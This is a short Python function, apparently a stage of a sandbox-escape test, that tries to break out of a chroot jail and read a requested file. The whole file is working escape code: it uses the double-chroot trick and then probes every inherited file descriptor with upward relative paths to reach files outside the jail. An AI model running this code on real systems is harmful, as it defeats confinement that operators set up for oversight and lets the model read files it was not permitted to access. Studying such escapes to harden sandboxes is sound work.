"""Leaves its root folder: chroot twice, or upwards from every inherited folder."""

import os
from typing import Any


def f(stage: dict[str, Any]) -> str:
    wanted = stage["files"][0]
    try:
        os.makedirs("/tmp/inner", exist_ok=True)
        os.chroot("/tmp/inner")
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
        with open(wanted) as file:
            return file.read().strip()
    except OSError:
        pass
    for descriptor in range(256):
        for up in ("", "../" * 12):
            try:
                found = os.open(up + wanted.lstrip("/"), os.O_RDONLY, dir_fd=descriptor)
                return os.read(found, 100).decode().strip()
            except OSError:
                continue
    return ""
